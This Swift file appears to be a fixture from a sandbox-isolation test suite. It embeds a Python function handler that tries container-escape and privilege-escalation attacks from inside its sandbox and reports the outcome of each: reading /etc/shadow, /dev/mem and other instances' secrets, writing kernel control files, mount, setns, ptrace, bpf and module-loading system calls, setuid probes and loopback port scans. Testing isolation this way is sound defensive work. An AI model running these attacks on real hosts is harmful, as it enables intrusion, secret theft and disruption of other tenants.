/// The attacker: a python3 handler (OpenFaaS `handle(event, context)`) that runs real attacks
/// from inside its sandbox and reports, per attack, what happened: an errno name (`EPERM`), `ok`
/// when the attack worked, or a short outcome (`empty`, `EAGAIN after 180 children`).
///
/// Paths: `/escape` runs every attack on the host, the platform and other instances (query:
/// `data`, `code`, `secret`, `secretname`, `gwport`, `hostport`, `hostpid`, `marker`) and answers
/// `{"results": {key: outcome}, "notes": {key: detail}}`; `/whoami` answers the hostname;
/// `/bomb`, `/fds`, `/fill`, `/spin?s=N` and `/hog` exhaust one resource each; anything else
/// answers `calm`. System calls go through `libc.syscall` with x86_64 numbers, each in a forked
/// child so an attack that worked cannot change the serving process. Nothing here sends traffic
/// beyond 127.0.0.1.
enum Attacker {
    /// The whole handler: the escape attacks and the dispatcher with the exhaustion paths.
    static var source: String { escapes + "\n" + exhaustion }

    static let escapes = #"""
        import ctypes, errno, os, socket, struct, time

        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        # x86_64 system call numbers.
        NR = {"ptrace": 101, "mount": 165, "init_module": 175, "add_key": 248, "keyctl": 250,
              "unshare": 272, "setns": 308, "finit_module": 313, "bpf": 321, "socket": 41, "mknod": 133,
              "sethostname": 170, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425}

        def name_of(code):
            return errno.errorcode.get(code, "errno %d" % code)

        def syscall(name, *args):
            conv = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
            result = libc.syscall(ctypes.c_long(NR[name]), *conv)
            if result == -1:
                raise OSError(ctypes.get_errno(), name)
            return result

        def attempt(fn):
            """Runs fn: 'ok' (or what it returns) when it works, else the errno name."""
            try:
                value = fn()
                return value if isinstance(value, str) else "ok"
            except OSError as e:
                return name_of(e.errno) if e.errno else str(e)
            except Exception as e:
                return "%s: %s" % (type(e).__name__, e)

        def in_child(fn, timeout=10.0):
            """attempt(fn) in a forked child: whatever fn manages to change dies with the child."""
            r, w = os.pipe()
            pid = os.fork()
            if pid == 0:
                try:
                    os.close(r)
                    os.write(w, attempt(fn).encode()[:500])
                finally:
                    os._exit(0)
            os.close(w)
            deadline = time.time() + timeout
            while time.time() < deadline:
                done, _ = os.waitpid(pid, os.WNOHANG)
                if done:
                    break
                time.sleep(0.01)
            else:
                os.kill(pid, 9)
                os.waitpid(pid, 0)
            out = os.read(r, 600).decode() or "child died"
            os.close(r)
            return out

        def read(path):
            with open(path, "rb") as f:
                data = f.read(4096)
            return "ok (%d bytes)" % len(data) if data else "empty"

        def listdir(path):
            return "ok (%d entries)" % len(os.listdir(path))

        def write(path):
            with open(path, "w") as f:
                f.write("pwned")

        def connect(port):
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
            s.close()

        def buffer(data):
            return ctypes.create_string_buffer(data, len(data))

        # --- privileged system calls -------------------------------------------------------
        def mount():
            syscall("mount", b"tmpfs", b"/tmp", b"tmpfs", 0, None)

        def unshare(flag):
            return lambda: syscall("unshare", flag)

        def setns(path, nstype):
            def fn():
                fd = os.open(path, os.O_RDONLY)
                syscall("setns", fd, nstype)
            return fn

        def ptrace_attach(pid):
            PTRACE_ATTACH, PTRACE_DETACH = 16, 17
            syscall("ptrace", PTRACE_ATTACH, pid, 0, 0)
            # Attached: the attack worked. Let the tracee go again.
            try:
                os.waitpid(pid, 0x40000000)  # __WALL
                syscall("ptrace", PTRACE_DETACH, pid, 0, 0)
            except OSError:
                pass

        def ptrace_child():
            child = os.fork()
            if child == 0:
                time.sleep(5)
                os._exit(0)
            try:
                return attempt(lambda: ptrace_attach(child))
            finally:
                os.kill(child, 9)
                os.waitpid(child, 0)

        def bpf_map_create():
            # BPF_MAP_CREATE (0): a 1-entry BPF_MAP_TYPE_HASH.
            attr = buffer(struct.pack("<IIIII", 1, 4, 4, 1, 0).ljust(128, b"\0"))
            fd = syscall("bpf", 0, attr, 128)
            os.close(fd)

        def bpf_prog_load():
            # BPF_PROG_LOAD (5): a socket filter `r0 = 0; exit`.
            insns = buffer(bytes([0xB7, 0, 0, 0, 0, 0, 0, 0, 0x95, 0, 0, 0, 0, 0, 0, 0]))
            lic = buffer(b"GPL\0")
            attr = buffer(struct.pack("<IIQQIIQII", 1, 2, ctypes.addressof(insns), ctypes.addressof(lic), 0, 0, 0, 0, 0).ljust(128, b"\0"))
            fd = syscall("bpf", 5, attr, 128)
            os.close(fd)

        def init_module():
            image = buffer(b"\x7fELF" + b"\0" * 60)
            syscall("init_module", image, 64, b"")

        def finit_module():
            fd = os.open("/usr/bin/true", os.O_RDONLY)
            syscall("finit_module", fd, b"", 0)

        def raw_socket(family, kind, proto):
            def fn():
                os.close(syscall("socket", family, kind, proto))
            return fn

        def add_key():
            syscall("add_key", b"user", b"swiftlet-attack", b"x", 1, -2)  # KEY_SPEC_PROCESS_KEYRING

        def keyctl():
            syscall("keyctl", 0, -3, 1)  # KEYCTL_GET_KEYRING_ID of the session keyring, create

        def mknod():
            syscall("mknod", b"/tmp/mem", 0o020600, (1 << 8) | 1)  # S_IFCHR, /dev/mem is 1:1

        def perf_event_open():
            # PERF_TYPE_SOFTWARE, PERF_COUNT_SW_CPU_CLOCK on this process, any cpu.
            attr = buffer(struct.pack("<IIQ", 1, 128, 0).ljust(128, b"\0"))
            os.close(syscall("perf_event_open", attr, 0, -1, -1, 0))

        def userfaultfd():
            os.close(syscall("userfaultfd", 1))  # UFFD_USER_MODE_ONLY: allowed unprivileged

        def io_uring_setup():
            params = buffer(b"\0" * 120)
            os.close(syscall("io_uring_setup", 4, params))

        def sethostname():
            syscall("sethostname", b"pwned", 5)

        def posture(notes):
            status = {}
            for line in open("/proc/self/status"):
                key, _, value = line.partition(":")
                status[key] = value.strip()
            caps = {k: status.get(k) for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")}
            notes["status"] = "%s NoNewPrivs %s Seccomp %s" % (caps, status.get("NoNewPrivs"), status.get("Seccomp"))
            return {
                "uid": "uid %d euid %d gid %d" % (os.getuid(), os.geteuid(), os.getgid()),
                "caps": "none" if all(v in (None, "0000000000000000") for v in caps.values()) else str(caps),
                # prctl(PR_GET_NO_NEW_PRIVS): gVisor's /proc/self/status has no NoNewPrivs line.
                "no_new_privs": {1: "set", 0: "not set"}.get(libc.prctl(39, 0, 0, 0, 0), "unknown"),
                "seccomp": {"2": "filter", "1": "strict", "0": "none"}.get(status.get("Seccomp"), "unknown"),
            }

        # --- setuid binaries ---------------------------------------------------------------
        def setuid_polkit(notes):
            path = "/usr/lib/polkit-1/polkit-agent-helper-1"
            if not os.path.exists(path):
                return "absent"
            import subprocess
            p = subprocess.run([path, "root"], input=b"\n", capture_output=True, timeout=10)
            text = (p.stdout + p.stderr).decode(errors="replace")
            notes["setuid_polkit"] = "mode %o, exit %d: %s" % (os.stat(path).st_mode & 0o7777, p.returncode, text.strip()[:200])
            if "needs to be setuid root" in text:
                return "euid not 0"
            return "unexpected exit %d" % p.returncode

        def setuid_su(notes):
            """Runs su with its stderr a full pipe (it blocks at its first message) and reads its
            effective uid from /proc while it is blocked."""
            path = "/usr/bin/su"
            if not os.path.exists(path):
                return "absent"
            import fcntl, subprocess
            r, w = os.pipe()
            fcntl.fcntl(w, fcntl.F_SETFL, os.O_NONBLOCK)
            try:
                while True:
                    os.write(w, b"x" * 4096)
            except BlockingIOError:
                pass
            fcntl.fcntl(w, fcntl.F_SETFL, 0)
            p = subprocess.Popen([path, "root", "-c", "id"], stdin=subprocess.PIPE, stdout=w, stderr=w)
            os.close(w)
            euids = set()
            deadline = time.time() + 3
            while time.time() < deadline and p.poll() is None:
                try:
                    for line in open("/proc/%d/status" % p.pid):
                        if line.startswith("Uid:"):
                            euids.add(int(line.split()[2]))
                except OSError:
                    pass
                time.sleep(0.005)
            p.kill()
            p.wait()
            os.close(r)
            notes["setuid_su"] = "mode %o, effective uids seen: %s" % (os.stat(path).st_mode & 0o7777, sorted(euids))
            if not euids:
                return "not observed"
            return "euid 0" if 0 in euids else "euid %d" % min(euids)

        # --- network -----------------------------------------------------------------------
        def interfaces():
            names = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
            return "only lo" if names == ["lo"] else ",".join(names)

        def routes():
            lines = open("/proc/net/route").read().splitlines()[1:]
            return "none" if not lines else "; ".join(l.split()[0] + " " + l.split()[1] for l in lines)

        def routes6():
            if not os.path.exists("/proc/net/ipv6_route"):
                return "absent"
            devices = sorted({l.split()[-1] for l in open("/proc/net/ipv6_route").read().splitlines() if l.strip()})
            outside = [d for d in devices if d != "lo"]
            return "only lo" if not outside else ",".join(outside)

        def self_http():
            import http.client
            c = http.client.HTTPConnection("127.0.0.1", 8080, timeout=5)
            c.request("GET", "/whoami")
            body = c.getresponse().read().decode()
            c.close()
            return "own hostname" if body == os.uname().nodename else "answered %s" % body[:80]

        def scan(notes):
            open_ports, start = [], time.time()
            for port in range(1, 65536):
                s = socket.socket()
                try:
                    # A connect whose source port is the destination port connects to itself
                    # (TCP simultaneous open): no listener, not counted.
                    if s.connect_ex(("127.0.0.1", port)) == 0 and s.getsockname()[1] != port:
                        open_ports.append(port)
                finally:
                    s.close()
                if time.time() - start > 15:
                    notes["scan"] = "stopped at port %d after 15 s" % port
                    break
            return "open: " + (",".join(map(str, open_ports)) or "none")

        # --- other instances ---------------------------------------------------------------
        def kill_host_pid(pid):
            if os.path.exists("/proc/%d" % pid):
                return "skipped: %d is a pid of this sandbox" % pid
            os.kill(pid, 9)

        def environ_scan(marker, notes):
            found, scanned = [], 0
            for entry in os.listdir("/proc"):
                if not entry.isdigit():
                    continue
                try:
                    data = open("/proc/%s/environ" % entry, "rb").read()
                except OSError:
                    continue
                scanned += 1
                if marker.encode() in data:
                    found.append(entry)
            notes["environ_scan"] = "read the environ of %d pids" % scanned
            return "found in pids " + ",".join(found) if found else "not found"

        def escape(q):
            notes, results = {}, {}
            data, code, secret = q.get("data", "/nonexistent"), q.get("code", "/nonexistent"), q.get("secret", "/nonexistent")
            hostpid = int(q.get("hostpid", "999999"))
            results.update({
                "read_shadow": attempt(lambda: read("/etc/shadow")),
                "read_data_dir": attempt(lambda: listdir(data)),
                "read_data_db": attempt(lambda: read(data + "/swiftlet.db")),
                "read_victim_code": attempt(lambda: read(code + "/handler.py")),
                "read_victim_secret_host": attempt(lambda: read(secret)),
                "read_victim_secret_mount": attempt(lambda: read("/var/openfaas/secrets/" + q.get("secretname", "x"))),
                "read_proc1_root_shadow": attempt(lambda: read("/proc/1/root/etc/shadow")),
                "read_kcore": attempt(lambda: read("/proc/kcore")),
                "write_root": attempt(lambda: write("/pwned")),
                "write_usr": attempt(lambda: write("/usr/pwned")),
                "write_code": attempt(lambda: write("/home/app/function/pwned")),
                "write_handler": attempt(lambda: write("/home/app/function/handler.py")),
                "write_core_pattern": attempt(lambda: write("/proc/sys/kernel/core_pattern")),
                "write_sysrq": attempt(lambda: write("/proc/sysrq-trigger")),
                "read_dev_mem": attempt(lambda: read("/dev/mem")),
                "mount": in_child(mount),
                "unshare_user": in_child(unshare(0x10000000)),
                "unshare_net": in_child(unshare(0x40000000)),
                "unshare_mnt": in_child(unshare(0x00020000)),
                "setns_self_net": in_child(setns("/proc/self/ns/net", 0x40000000)),
                "setns_pid1_net": in_child(setns("/proc/1/ns/net", 0x40000000)),
                "setns_victim_net": in_child(setns("/proc/%d/ns/net" % hostpid, 0x40000000)),
                "ptrace_pid1": in_child(lambda: ptrace_attach(1)),
                "ptrace_child": in_child(ptrace_child),
                "bpf_map_create": in_child(bpf_map_create),
                "bpf_prog_load": in_child(bpf_prog_load),
                "init_module": in_child(init_module),
                "finit_module": in_child(finit_module),
                "socket_raw": in_child(raw_socket(2, 3, 1)),
                "socket_packet": in_child(raw_socket(17, 3, 0x0300)),
                "add_key": in_child(add_key),
                "keyctl": in_child(keyctl),
                "mknod": in_child(mknod),
                "perf_event_open": in_child(perf_event_open),
                "userfaultfd": in_child(userfaultfd),
                "io_uring_setup": in_child(io_uring_setup),
                "sethostname": in_child(sethostname),
                "setuid_su": attempt(lambda: setuid_su(notes)),
                "setuid_polkit": attempt(lambda: setuid_polkit(notes)),
                "connect_gateway": attempt(lambda: connect(int(q.get("gwport", "1")))),
                "connect_host_listener": attempt(lambda: connect(int(q.get("hostport", "1")))),
                "connect_self_8080": attempt(self_http),
                "loopback_scan": attempt(lambda: scan(notes)),
                "interfaces": attempt(interfaces),
                "routes": attempt(routes),
                "routes6": attempt(routes6),
                "kill_victim": attempt(lambda: kill_host_pid(hostpid)),
                "read_victim_environ": attempt(lambda: read("/proc/%d/environ" % hostpid)),
                "environ_scan": attempt(lambda: environ_scan(q.get("marker", "none"), notes)),
            })
            results.update(posture(notes))
            return {"results": results, "notes": notes}
        """#
}
